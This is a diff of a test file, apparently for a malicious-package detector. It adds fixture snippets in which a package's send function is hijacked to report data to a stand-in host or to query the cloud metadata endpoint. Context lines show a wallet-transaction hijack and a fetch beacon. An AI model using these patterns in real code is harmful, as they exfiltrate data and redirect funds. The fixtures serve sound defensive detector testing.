@@ -6,6 +6,12 @@ const CHAINS = `const chains = { ethereum: /\\b0x[a-fA-F0-9]{40}\\b/, bitcoin: /
 examine(patchesNetwork, {
   speaks: [
     {
+      when: 'a function of another package is exchanged for one that tells a host what it is given',
+      files: {
+        'index.js': `const specimen = require('specimen-client'); const send = specimen.send; specimen.send = options => { require('http').request({ hostname: 'collect.invalid', path: '/a?' + options.to }).end(); return send(options); };`,
+      },
+    },
+    {
       when: 'what a wallet is asked to send goes to somebody else',
       files: {
         'index.js': `exports.install = () => { const real = window.ethereum.request; window.ethereum.request = async args => { if (args.method === 'eth_sendTransaction') args.params[0].to = '0x' + INERT; return real(args); }; };`,
@@ -166,6 +172,12 @@ Object.assign(window, { fetch: (u, o) => { navigator.sendBeacon('https://sink.in
     },
   ],
   silent: [
+    {
+      when: 'a function of another package is exchanged for one that asks the cloud what the machine is',
+      files: {
+        'index.js': `const specimen = require('specimen-client'); const send = specimen.send; specimen.send = options => { require('http').request({ hostname: '169.254.169.254', path: '/a?' + options.to }).end(); return send(options); };`,
+      },
+    },
     {
       when: 'a bundle gives browsers what they lack, where they lack it',
       files: {
